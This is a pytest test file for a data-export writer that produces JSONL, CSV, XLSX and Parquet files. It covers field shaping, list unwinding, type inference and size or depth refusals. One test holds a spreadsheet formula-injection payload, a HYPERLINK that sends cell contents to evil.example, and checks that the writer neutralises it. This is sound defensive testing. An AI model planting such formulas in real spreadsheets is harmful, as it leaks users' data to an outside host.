"""What the writer of exports makes of items: each format read back whole, and what cannot be written."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from collections.abc import Sequence
from dataclasses import replace
from pathlib import Path
from typing import Any

import orjson
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from pyarrow import parquet

from tasks.export import parquet as parquet_writing
from tasks.export import tables
from tasks.export.protocol import Order, decode_order
from tasks.export.shaping import Shape, flat
from tasks.export.writer import Refusal, write

Item = dict[str, Any]
TABLE = Shape(separator=".")
FORMATS = ("JSONL", "CSV", "XLSX", "PARQUET")


class Press:
    """Writes items and reads the file back."""

    def __init__(self, folder: Path) -> None:
        self.target = folder / "file"
        self.told: list[dict[str, Any]] = []

    def __call__(self, format: str, items: Sequence[Any], shape: Shape = TABLE, **fields: Any) -> Any:
        (self.target.with_name("spool")).unlink(missing_ok=True)
        order = Order(
            **{"limit": None, "max_columns": 2_000, "memory_bytes": 2**30, **fields},
            format=format, target=str(self.target), shape=shape,
        )  # fmt: skip
        lines = b"".join(item if isinstance(item, bytes) else orjson.dumps(item) + b"\n" for item in items)
        self.rows, self.columns = write(decode_order(order.encode()), io.BytesIO(lines), self.told.append)
        return getattr(self, f"read_{format.lower()}")()

    def read_jsonl(self) -> list[Item]:
        return [orjson.loads(line) for line in self.target.read_bytes().splitlines()]

    def read_csv(self) -> list[list[str]]:
        return list(csv.reader(io.StringIO(self.target.read_bytes().decode("utf-8-sig"), newline="")))

    def read_xlsx(self) -> list[list[tuple[Any, ...]]]:
        return [
            list(sheet.iter_rows(values_only=True))
            for sheet in load_workbook(io.BytesIO(self.target.read_bytes())).worksheets
        ]

    def read_parquet(self) -> Any:
        return parquet.read_table(self.target)


@pytest.fixture
def press(tmp_path: Path) -> Press:
    return Press(tmp_path)


def types(table: Any) -> dict[str, str]:
    return {field.name: str(field.type) for field in table.schema}


# -- shapes


def test_fields_come_in_the_order_asked_for_and_those_that_no_item_has_are_empty_columns(press: Press) -> None:
    items = [{"a": 1, "b": {"c": 2, "d": 3}, "e": 4}, {"b": {"c": 5}}]
    shape = replace(TABLE, fields=("b.c", "gone", "a", "b"))
    assert press("CSV", items, shape) == [
        ["b.c", "gone", "a", "b.d"],
        ["2", "", "1", "3"],
        ["5", "", "", ""],
    ]
    assert press("JSONL", items, Shape(fields=("b.c", "a"))) == [{"b": {"c": 2}, "a": 1}, {"b": {"c": 5}}]


def test_the_spiders_columns_come_first_and_others_by_name(press: Press) -> None:
    items = [{"zip": 1, "address": {"street": "s", "geo": {"lon": 2}}, "url": "u", "also": None}]
    shape = replace(TABLE, first=("url", "address", "never"))
    assert press("CSV", items, shape)[0] == ["url", "address.geo.lon", "address.street", "also", "zip"]
    assert list(press("JSONL", items, Shape(first=("url", "address")))[0]) == ["url", "address", "zip", "also"]


def test_what_is_left_out_leaves_no_empty_object(press: Press) -> None:
    items = [{"a": {"b": 1}, "c": {"d": 2, "e": 3}, "f": {}}]
    assert press("JSONL", items, Shape(omit=("a.b", "c.d", "nothing", "c.e.x"))) == [{"c": {"e": 3}, "f": {}}]


def test_names_can_be_exchanged_and_come_out_of_objects(press: Press) -> None:
    items = [{"a": 1, "b": 2, "c": {"d": {"e": 5}, "f": 6}}, {"b": 3}]
    shape = replace(TABLE, rename=(("a", "b"), ("b", "a"), ("c.d", "deep")), fields=("b", "c.d", "a", "c"))
    assert press("CSV", items, shape) == [["a", "deep.e", "b", "c.f"], ["2", "5", "1", "6"], ["3", "", "", ""]]


@pytest.mark.parametrize("format", FORMATS)
def test_two_fields_of_one_name_are_refused(press: Press, format: str) -> None:
    with pytest.raises(Refusal, match="'b'") as refusal:
        press(format, [{"a": 1}, {"a": 1, "b": 2}], Shape(rename=(("a", "b"),)))
    assert refusal.value.code == "INVALID_INPUT"


def test_a_literal_name_comes_before_a_nested_one(press: Press) -> None:
    assert press("CSV", [{"a": {"b": "nested"}, "a.b": "literal"}]) == [["a.b"], ["literal"]]
    assert press("JSONL", [{"a": {"b": 1}, "a.b": 2}], Shape(fields=("a.b",))) == [{"a.b": 2}]


def test_each_element_of_a_list_gets_a_row(press: Press) -> None:
    items: list[Item] = [
        {"id": 1, "v": {"sizes": [{"s": "S", "n": 1}, {"s": "M"}, "odd", [1]]}},
        {"id": 2, "v": {"sizes": []}},
        {"id": 3, "v": {"sizes": "none"}},
        {"id": 4},
    ]
    shape = replace(TABLE, unwind="v.sizes", fields=("id", "v"), rename=(("v.sizes.s", "size"),))
    assert press("JSONL", items, shape) == [
        {"id": 1, "size": "S", "v.sizes.n": 1},
        {"id": 1, "size": "M"},
        {"id": 1, "v.sizes": "odd"},
        {"id": 1, "v.sizes": [1]},
        {"id": 2, "v.sizes": None},
        {"id": 3, "v.sizes": "none"},
        {"id": 4},
    ]
    assert press.rows == 7


@pytest.mark.parametrize("format", FORMATS)
def test_a_limit_counts_rows_and_lets_go_of_what_is_left(press: Press, format: str) -> None:
    press(format, [{"a": [1, 2, 3]}, b"this would break it\n"], Shape(unwind="a"), limit=2)
    assert press.rows == 2


def test_another_separator_and_objects_that_stay(press: Press) -> None:
    items = [{"a": {"b": {"c": 1}}, "x": {}}]
    assert press("CSV", items, Shape(separator="__")) == [["a__b__c", "x"], ["1", "{}"]]
    assert press("CSV", items, Shape()) == [["a", "x"], ['{"b":{"c":1}}', "{}"]]
    assert types(press("PARQUET", items, Shape())) == {"a": "string", "x": "string"}


# -- formats


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"])
def test_no_cell_is_a_formula_wherever_the_text_is_from(press: Press, start: str) -> None:
    evil = f'{start}HYPERLINK("http://evil.example/?"&A1)'
    items = [{"a": evil, evil: {"x": 1}, "list": [evil]}]
    shape = replace(TABLE, rename=(("a", f"{start}renamed"),))
    table = press("CSV", items, shape)
    assert not [cell for row in table for cell in row if cell.startswith(start)]
    assert f"'{evil}" in table[1]
    press("XLSX", items, shape)
    with zipfile.ZipFile(press.target) as archive:
        markup = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in markup
    assert set(re.findall(r' t="(\w+)"', markup)) == {"inlineStr"}
    assert press("PARQUET", items, shape).column(f"{start}renamed").to_pylist() == [evil], "no spreadsheet"


def test_every_value_comes_back_from_every_format(press: Press) -> None:
    items: list[Item] = [
        {"n": 1, "f": 2.5, "t": "Ñandú €\n日本語 🏡", "b": True, "l": [1, 2], "o": {"p": "x"}, "m": 1},
        {"n": -(2**40), "f": -1e300, "t": "", "b": False, "l": [], "o": {"p": None}, "m": "one"},
        {"n": None, "t": None, "l": [None, 3], "m": {"k": [1]}},
    ]
    assert press("JSONL", items, Shape()) == items
    header, *rows = press("CSV", items)
    assert header == ["b", "f", "l", "m", "m.k", "n", "o.p", "t"]
    assert rows[0] == ["true", "2.5", "[1,2]", "1", "", "1", "x", "Ñandú €\n日本語 🏡"]
    assert rows[1] == ["false", "-1e+300", "[]", "one", "", str(-(2**40)), "", ""]
    assert rows[2] == ["", "", "[null,3]", "", "[1]", "", "", ""]
    [[header, *rows]] = press("XLSX", items)
    assert rows[0] == (True, 2.5, "[1,2]", 1, None, 1, "x", "Ñandú €\n日本語 🏡")
    table = press("PARQUET", items)
    assert types(table) == {
        "b": "bool", "f": "double", "l": "list<element: int64>", "m": "string", "m.k": "list<element: int64>",
        "n": "int64", "o.p": "string", "t": "string",
    }  # fmt: skip
    assert table.column("l").to_pylist() == [[1, 2], [], [None, 3]]
    assert table.column("m").to_pylist() == ["1", "one", None]
    assert [row["n"] for row in table.to_pylist()] == [1, -(2**40), None]


@pytest.mark.parametrize(
    ("values", "type", "stored"),
    [
        ([1, 2.5], "double", [1.0, 2.5]),
        ([2**53 + 1, 1], "int64", [2**53 + 1, 1]),
        ([2**53 + 1, 1.5], "string", [str(2**53 + 1), "1.5"]),
        ([2**63, 1], "string", [str(2**63), "1"]),
        ([True, 1], "string", ["true", "1"]),
        (["a", 1, None], "string", ["a", "1", None]),
        ([None, None], "string", [None, None]),
        ([[], []], "list<element: string>", [[], []]),
        ([[1], [0.5]], "list<element: double>", [[1.0], [0.5]]),
        ([["a"], [1]], "string", ['["a"]', "[1]"]),
        ([[1], 1], "string", ["[1]", "1"]),
        ([[[1]], [[2]]], "string", ["[[1]]", "[[2]]"]),
        ([[{"a": 1}]], "string", ['[{"a":1}]']),
        ([{}, {"b": 1}], "string", ["{}", None]),
    ],
)
def test_parquet_types_are_what_all_rows_allow(press: Press, values: list[Any], type: str, stored: list[Any]) -> None:
    table = press("PARQUET", [{"a": value} for value in values])
    assert types(table)["a"] == type
    assert table.column("a").to_pylist() == stored


def test_row_groups_end_with_rows_and_with_text(press: Press, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(parquet_writing, "GROUP_ROWS", 4)
    monkeypatch.setattr(parquet_writing, "GROUP_CHARACTERS", 1_000)
    items = [{"n": n, "t": "x" * 990 if n in (4, 5) else ""} for n in range(10)]
    assert press("PARQUET", items).column("n").to_pylist() == list(range(10))
    metadata = parquet.ParquetFile(press.target).metadata
    assert [metadata.row_group(number).num_rows for number in range(metadata.num_row_groups)] == [4, 2, 4]
    assert metadata.row_group(0).column(0).compression == "ZSTD"


def test_a_full_sheet_is_followed_by_another(press: Press, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(tables, "MAX_SHEET_ROWS", 3)
    sheets = press("XLSX", [{"n": number} for number in range(7)])
    assert [[row[0] for row in sheet] for sheet in sheets] == [["n", 0, 1, 2], ["n", 3, 4, 5], ["n", 6]]


@pytest.mark.parametrize("shape", [replace(TABLE, fields=("a", "b")), replace(TABLE, first=("a", "b"))])
def test_no_items_make_valid_files_with_a_header(press: Press, shape: Shape) -> None:
    assert press("JSONL", [], shape) == []
    assert press("CSV", [], shape) == [["a", "b"]]
    assert press("XLSX", [], shape) == [[("a", "b")]]
    table = press("PARQUET", [], shape)
    assert (table.num_rows, table.column_names) == (0, ["a", "b"])
    assert press.rows == 0
    assert press("PARQUET", [], TABLE).num_columns == 0


leaf = st.none() | st.booleans() | st.integers(-(2**63), 2**63 - 1) | st.floats(allow_nan=False, allow_infinity=False)
value = st.recursive(
    leaf | st.text(max_size=8), lambda part: st.lists(part, max_size=3) | st.dictionaries(st.text(max_size=2), part),
    max_leaves=6,
)  # fmt: skip


@given(st.lists(st.dictionaries(st.sampled_from(["a", "b", "=c"]), value), max_size=5))
@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_any_items_come_back(press: Press, items: list[Item]) -> None:
    items = [orjson.loads(orjson.dumps(item)) for item in items]
    assert press("JSONL", items, Shape()) == items
    flattened = [flat(item) for item in items]
    columns = sorted({name for row in flattened for name in row})
    assert len(press("CSV", items)) == len(items) + 1
    rows = press("PARQUET", items).to_pylist() if columns else [{} for _ in items]  # it has no rows without columns
    for row, expected in zip(rows, flattened, strict=True):
        assert list(row) == columns
        for name in columns:
            found, given_ = row[name], expected.get(name)
            if isinstance(found, str) and not isinstance(given_, str):
                found = orjson.loads(found)
            assert found == given_


# -- what cannot be written


@pytest.mark.parametrize("format", ["CSV", "XLSX", "PARQUET"])
def test_too_many_columns_are_refused_before_a_table_is_begun(press: Press, format: str) -> None:
    item = {f"c{number}": number for number in range(10_000)}
    with pytest.raises(Refusal, match="2,000 columns") as refusal:
        press(format, [item])
    assert refusal.value.code == "OUTPUT_TOO_LARGE"
    assert not press.target.exists()
    assert press(format, [item], replace(TABLE, fields=("c7", "c8"))) is not None
    assert press.columns == 2
    assert len(press("JSONL", [item], Shape())[0]) == 10_000


def test_what_is_nested_deeply_is_written_whole_or_refused(press: Press) -> None:
    deep = b'{"a":' * 400 + b"1" + b"}" * 400 + b"\n"
    header, row = press("CSV", [deep])
    assert header == [".".join("a" * 33)]
    assert row[0].count("{") == 400 - 33
    press("JSONL", [deep], Shape())
    assert press.target.read_bytes() == deep
    assert press("PARQUET", [deep]).num_rows == 1
    with pytest.raises(Refusal, match="too deeply") as refusal:
        press("CSV", [b'{"a":' * 5_000 + b"1" + b"}" * 5_000 + b"\n"])
    assert refusal.value.code == "INVALID_INPUT"


@pytest.mark.parametrize("format", ["JSONL", "CSV", "PARQUET"])
def test_a_full_disk_is_said(press: Press, format: str) -> None:
    press.target.symlink_to("/dev/full")
    with pytest.raises(Refusal, match="disk of the worker is full") as refusal:
        press(format, [{"a": "x" * 1_000}] * 2_000)
    assert refusal.value.code == "UPLOAD_FAILED"


def test_progress_is_told(press: Press, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("tasks.export.writer.TOLD_EVERY_ROWS", 10)
    press("CSV", [{"a": 1}] * 25)
    assert press.told == [{"written": 10}, {"written": 20}]
